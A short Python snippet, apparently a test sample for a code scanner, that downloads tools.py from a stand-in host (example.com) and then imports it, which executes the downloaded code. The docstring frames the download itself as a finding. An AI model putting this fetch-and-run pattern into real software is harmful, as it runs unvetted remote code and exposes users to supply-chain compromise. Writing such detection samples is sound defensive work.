"""That a file is fetched is a finding of its own."""

import urllib.request

urllib.request.urlretrieve("https://example.com/tools.py", "tools.py")
import tools
